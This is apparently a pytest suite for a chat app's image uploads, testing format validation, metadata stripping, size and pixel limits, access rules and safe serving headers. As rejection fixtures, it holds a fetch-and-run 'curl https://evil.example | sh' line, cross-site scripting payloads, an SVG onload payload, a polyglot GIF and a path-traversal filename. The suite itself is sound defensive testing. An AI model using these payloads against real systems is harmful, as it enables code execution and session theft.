"""Pictures: the upload door's checks, what is stored, sending them, and how they are served."""
from __future__ import annotations

import io
import re
from datetime import timedelta

import pytest
from PIL import Image

from chatapp.extensions import db
from chatapp.models import Attachment, Message, utcnow
from chatapp.services import direct, rooms, uploads

from . import helpers
from .conftest import AuthActions, csrf_token_from, received

MAKE, GPS = 0x010F, 0x8825
FORMATS = {"PNG": "image/png", "JPEG": "image/jpeg", "GIF": "image/gif", "WEBP": "image/webp"}


def picture(fmt: str = "PNG", size=(640, 480), exif: bool = True, frames: int = 1) -> bytes:
    """A real picture made with Pillow, with a camera make and a GPS block in its EXIF where the format has one."""
    images = [Image.new("RGB", size, (40 * n % 255, 120, 200)) for n in range(frames)]
    out = io.BytesIO()
    options: dict = {}
    if exif and fmt != "GIF":
        tags = Image.Exif()
        tags[MAKE] = "SpyCam 3000"
        tags[GPS] = {1: "N", 2: (51.0, 30.0, 0.0)}
        options["exif"] = tags.tobytes()
    if fmt == "GIF":
        options["comment"] = b"SpyCam 3000"
    if frames > 1:
        options.update(save_all=True, append_images=images[1:], duration=80, loop=0)
    images[0].save(out, format=fmt, **options)
    return out.getvalue()


class Uploader:
    """A logged-in browser posting pictures the way room.js does (multipart, CSRF header, JSON answers)."""

    def __init__(self, app, username: str | None) -> None:
        self.client = app.test_client()
        if username:
            assert AuthActions(self.client).login(username).status_code == 302
        # Anonymous visitors have a session and a token too (from the login form).
        self.token = csrf_token_from(self.client.get("/" if username else "/auth/login").get_data(as_text=True))

    def upload(self, data: bytes, filename: str = "photo.png", room: str = "lobby", csrf: bool = True):
        headers = {"Accept": "application/json"}
        if csrf:
            headers["X-CSRFToken"] = self.token
        return self.client.post(
            f"/rooms/{room}/uploads", data={"file": (io.BytesIO(data), filename)}, headers=headers,
            content_type="multipart/form-data",
        )

    def fetch(self, url: str):
        return self.client.get(url)


@pytest.fixture
def alice_up(app, users, public_room):
    return Uploader(app, "alice")


def uploaded(response) -> dict:
    assert response.status_code == 201, response.get_data(as_text=True)
    body = response.get_json()
    assert body["ok"] is True
    return body["attachment"]


# -- accepted pictures -------------------------------------------------------------------


@pytest.mark.parametrize("fmt", list(FORMATS))
def test_a_real_picture_is_accepted_cleaned_and_thumbnailed(app, alice_up, fmt):
    original = picture(fmt)
    attachment = uploaded(alice_up.upload(original, filename=f"holiday.{fmt.lower()}"))
    assert attachment["mime"] == FORMATS[fmt]
    assert (attachment["width"], attachment["height"]) == (640, 480)
    assert (attachment["thumb_width"], attachment["thumb_height"]) == (320, 240)
    assert attachment["url"] == f"/uploads/{attachment['id']}/full"
    full = alice_up.fetch(attachment["url"])  # the uploader sees it before sending
    assert full.status_code == 200 and full.headers["Content-Type"] == FORMATS[fmt]
    served = Image.open(io.BytesIO(full.data))
    assert served.format == fmt and served.size == (640, 480)
    # Metadata stripped: no EXIF (camera, GPS), no comment, not even the text of it in the bytes.
    assert dict(served.getexif()) == {}
    assert not {"exif", "comment", "xmp", "icc_profile"} & set(served.info)
    assert b"SpyCam" not in full.data
    thumb = alice_up.fetch(attachment["thumb_url"])
    assert thumb.status_code == 200
    assert Image.open(io.BytesIO(thumb.data)).size == (320, 240)
    with app.app_context():
        row = db.session.get(Attachment, attachment["id"])
        assert row.message_id is None and row.size == len(full.data)
        folder = uploads.upload_folder()
        assert (folder / row.path).exists() and (folder / row.thumb_path).exists()
        assert "holiday" not in row.path  # stored under a random name


def test_a_sideways_phone_photo_is_turned_upright(alice_up):
    tags = Image.Exif()
    tags[0x0112] = 6  # "rotate 90° clockwise to view"
    out = io.BytesIO()
    Image.new("RGB", (400, 300), "red").save(out, format="JPEG", exif=tags.tobytes())
    attachment = uploaded(alice_up.upload(out.getvalue(), filename="phone.jpg"))
    assert (attachment["width"], attachment["height"]) == (300, 400)


@pytest.mark.parametrize("fmt", ["GIF", "WEBP"])
def test_animations_keep_their_frames(alice_up, fmt):
    attachment = uploaded(alice_up.upload(picture(fmt, size=(120, 90), frames=4), filename="anim"))
    served = Image.open(io.BytesIO(alice_up.fetch(attachment["url"]).data))
    assert served.n_frames == 4
    assert b"SpyCam" not in alice_up.fetch(attachment["url"]).data


# -- refused files ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data, filename",
    [
        (b"#!/bin/sh\ncurl https://evil.example | sh\n", "script.png"),
        (b"<script>alert(document.cookie)</script>", "page.png"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "vector.png"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "truncated.png"),
        (b"GIF89a<script>alert(1)</script>", "polyglot.gif"),
        (b"%PDF-1.7\n", "document.jpg"),
    ],
)
def test_anything_but_a_picture_is_refused_whatever_its_name(app, alice_up, data, filename):
    response = alice_up.upload(data, filename=filename)
    assert response.status_code == 400
    assert response.get_json() == {
        "ok": False, "error": "invalid",
        "message": "That file is not a picture chatapp accepts: send a PNG, JPEG, GIF or WebP image.",
    }
    with app.app_context():
        assert db.session.scalar(db.select(db.func.count(Attachment.id))) == 0


def test_a_bmp_is_refused_though_pillow_reads_it(alice_up):
    out = io.BytesIO()
    Image.new("RGB", (10, 10)).save(out, format="BMP")
    assert alice_up.upload(out.getvalue(), filename="x.png").get_json()["error"] == "invalid"


def test_a_file_one_byte_over_the_limit_is_refused_with_the_limit_in_words(app, alice_up):
    limit = app.config["UPLOAD_MAX_BYTES"]
    assert limit == 5 * 1024 * 1024
    big = picture("PNG", size=(16, 16))
    big += b"\x00" * (limit + 1 - len(big))  # trailing bytes: still a PNG to a lenient reader
    assert len(big) == limit + 1
    response = alice_up.upload(big, filename="big.png")
    assert response.status_code == 413
    assert response.get_json() == {
        "ok": False, "error": "too_large",
        "message": "A picture can be at most 5 MB; this one is 5.0 MB. Choose a smaller one.",
    }


def test_a_huge_request_is_refused_before_it_is_read(app, alice_up):
    response = alice_up.upload(b"\x00" * (8 * 1024 * 1024), filename="huge.png")
    assert response.status_code == 413
    body = response.get_json()
    assert body["ok"] is False and body["error"] == "too_large"
    assert body["message"].startswith("A picture can be at most 5 MB")


def test_a_decompression_bomb_is_refused(alice_up):
    out = io.BytesIO()
    Image.new("1", (10_000, 10_000)).save(out, format="PNG")  # ~12 kB that would decode to 100 megapixels
    response = alice_up.upload(out.getvalue(), filename="bomb.png")
    assert response.status_code == 413 and response.get_json()["error"] == "too_large"
    assert "too many pixels" in response.get_json()["message"]


def test_no_file_says_what_is_missing(alice_up):
    response = alice_up.client.post(
        "/rooms/lobby/uploads", data={}, headers={"X-CSRFToken": alice_up.token}, content_type="multipart/form-data"
    )
    assert response.status_code == 400
    assert response.get_json()["message"] == "Choose a picture to upload (the form field is named 'file')."


# -- who may upload and fetch ---------------------------------------------------------------


def test_uploading_needs_login_and_csrf(app, users, public_room):
    anonymous = Uploader(app, None).upload(picture())
    assert anonymous.status_code == 401 and anonymous.get_json()["error"] == "unauthorized"
    no_token = Uploader(app, "alice").upload(picture(), csrf=False)
    assert no_token.status_code == 400 and no_token.get_json()["error"] == "invalid"


def test_a_non_member_cannot_upload_to_a_private_room(app, users, private_room):
    response = Uploader(app, "bob").upload(picture(), room="secret")
    assert response.status_code == 403 and response.get_json()["error"] == "forbidden"
    assert uploaded(Uploader(app, "alice").upload(picture(), room="secret"))["mime"] == "image/png"
    assert Uploader(app, "alice").upload(picture(), room="nowhere").status_code == 404


def send(sock, room="lobby", body="", client_id="p1", **extra):
    """A send with no text unless given: the pictures are the message."""
    return helpers.send(sock, room, body, client_id, **extra)


def test_a_picture_goes_out_with_a_message_even_without_text(app, socket_for, alice_up, users):
    attachment = uploaded(alice_up.upload(picture(), filename="cat.png"))
    bob = socket_for("bob")
    bob.emit("join", {"room": "lobby"}, callback=True)
    bob.get_received()
    ack = send(socket_for("alice"), attachments=[attachment["id"]])
    assert ack["ok"] is True
    message = ack["message"]
    assert message["body"] == "" and message["html"] == ""
    assert message["attachments"] == [attachment]
    assert received(bob, "message") == [message]
    # Bob, in the room, may see it now; the page shows its thumbnail.
    bob_http = Uploader(app, "bob")
    assert bob_http.fetch(attachment["thumb_url"]).status_code == 200
    html = bob_http.client.get("/rooms/lobby").get_data(as_text=True)
    assert f'src="{attachment["thumb_url"]}"' in html and 'alt="Picture: cat.png"' in html
    # Without text and without pictures there is still nothing to send.
    assert send(socket_for("alice"), client_id="p2")["error"] == "invalid"


def test_only_ones_own_unsent_uploads_to_this_room_can_be_sent(app, socket_for, users, public_room, private_room):
    mine = uploaded(Uploader(app, "alice").upload(picture()))
    bobs = uploaded(Uploader(app, "bob").upload(picture()))
    in_secret = uploaded(Uploader(app, "alice").upload(picture(), room="secret"))
    alice = socket_for("alice")
    assert send(alice, attachments=[bobs["id"]], client_id="x1")["error"] == "not_found"
    assert send(alice, attachments=[424242], client_id="x2")["error"] == "not_found"
    assert send(alice, attachments=[in_secret["id"]], client_id="x3")["error"] == "invalid"
    assert send(alice, attachments=["1"], client_id="x4")["error"] == "invalid"
    assert send(alice, attachments=[mine["id"], mine["id"]], client_id="x5")["error"] == "invalid"
    assert send(alice, attachments=list(range(1, 12)), client_id="x6")["error"] == "too_large"
    first = send(alice, attachments=[mine["id"]], client_id="ok")
    assert first["ok"] is True
    assert send(alice, attachments=[mine["id"]], client_id="again")["error"] == "conflict"
    assert send(alice, attachments=[mine["id"]], client_id="ok") == first  # a retry is the stored message
    with app.app_context():
        assert db.session.scalar(db.select(db.func.count(Message.id))) == 1


def test_fetching_follows_the_room_rule(app, socket_for, users, private_room):
    unsent = uploaded(Uploader(app, "alice").upload(picture(), room="secret"))
    sent_one = uploaded(Uploader(app, "alice").upload(picture(), room="secret"))
    send(socket_for("alice"), room="secret", attachments=[sent_one["id"]])
    for who, unsent_status, sent_status in [("alice", 200, 200), ("staff", 404, 200), ("admin", 404, 200),
                                            ("bob", 404, 403), (None, 401, 401)]:
        viewer = Uploader(app, who)
        assert viewer.fetch(unsent["url"]).status_code == unsent_status, who
        assert viewer.fetch(sent_one["url"]).status_code == sent_status, who
        assert viewer.fetch(sent_one["thumb_url"]).status_code == sent_status, who
    alice = Uploader(app, "alice")
    assert alice.fetch(f"/uploads/{sent_one['id']}/original").status_code == 404
    assert alice.fetch("/uploads/424242/full").status_code == 404


def test_served_pictures_carry_safe_headers(app, alice_up):
    attachment = uploaded(alice_up.upload(picture("JPEG"), filename="../../etc/evil name<script>.jpg.exe"))
    response = alice_up.fetch(attachment["url"])
    headers = response.headers
    assert headers["Content-Type"] == "image/jpeg"  # sniffed, whatever the name said
    assert headers["X-Content-Type-Options"] == "nosniff"
    # The uploader's name, made safe, with the sniffed type's extension.
    assert re.fullmatch(r"inline; filename=[A-Za-z0-9_.-]+\.jpg", headers["Content-Disposition"]), headers[
        "Content-Disposition"
    ]
    assert "evil" in headers["Content-Disposition"] and ".exe" not in headers["Content-Disposition"]
    policy = headers["Content-Security-Policy"]
    assert policy.startswith("default-src 'none'") and "script-src" not in policy
    cache = headers["Cache-Control"]
    assert "private" in cache and "public" not in cache and "max-age=31536000" in cache
    assert headers.get("ETag")
    assert alice_up.client.get(attachment["url"], headers={"If-None-Match": headers["ETag"]}).status_code == 304


def test_no_pictures_in_support_conversations(app, socket_for, users):
    with app.app_context():
        room = rooms.create_room(slug="help", name="Help", creator=users["staff"])
        room.kind = "support"
        db.session.commit()
    response = Uploader(app, "staff").upload(picture(), room="help")
    assert response.status_code == 403
    assert response.get_json()["message"] == "Pictures cannot be sent in support conversations."


def test_unsent_uploads_are_pruned(app, alice_up, socket_for):
    stale = uploaded(alice_up.upload(picture()))
    kept = uploaded(alice_up.upload(picture()))
    sent_one = uploaded(alice_up.upload(picture()))
    send(socket_for("alice"), attachments=[sent_one["id"]])
    with app.app_context():
        for attachment_id in (stale["id"], sent_one["id"]):
            db.session.get(Attachment, attachment_id).created_at = utcnow() - timedelta(days=2)
        db.session.commit()
        path = uploads.upload_folder() / db.session.get(Attachment, stale["id"]).path
        assert uploads.prune_unsent_uploads(older_than=timedelta(days=1)) == 1
        assert not path.exists()
        assert db.session.get(Attachment, stale["id"]) is None
        assert db.session.get(Attachment, kept["id"]) is not None
        assert db.session.get(Attachment, sent_one["id"]) is not None


def test_the_prune_command(app, runner, alice_up):
    stale = uploaded(alice_up.upload(picture()))
    with app.app_context():
        db.session.get(Attachment, stale["id"]).created_at = utcnow() - timedelta(hours=30)
        db.session.commit()
    result = runner.invoke(args=["uploads", "prune", "--older-than-hours", "24"])
    assert result.exit_code == 0 and result.output == "Removed 1 unsent upload.\n"


def test_an_admin_reading_a_direct_room_cannot_put_pictures_in_it(app, socket_for, users, public_room):
    with app.app_context():
        for name in ("alice", "bob"):
            rooms.enter_room(user=users[name], room=db.session.merge(public_room))
        slug = direct.open_direct_room(user=users["alice"], other=users["bob"]).slug
    refused = Uploader(app, "admin").upload(picture(), room=slug)
    assert refused.status_code == 403
    assert (
        refused.get_json()["message"] == "Site admins can read direct messages, but only their two people write there."
    )
    shared = uploaded(Uploader(app, "alice").upload(picture(), room=slug))
    send(socket_for("alice"), room=slug, attachments=[shared["id"]])
    # Sent, the picture is seen as the room is read: by its two people and by admins, no one else.
    for who, status in [("bob", 200), ("admin", 200), ("staff", 403), ("carol", 403)]:
        assert Uploader(app, who).fetch(shared["url"]).status_code == status, who
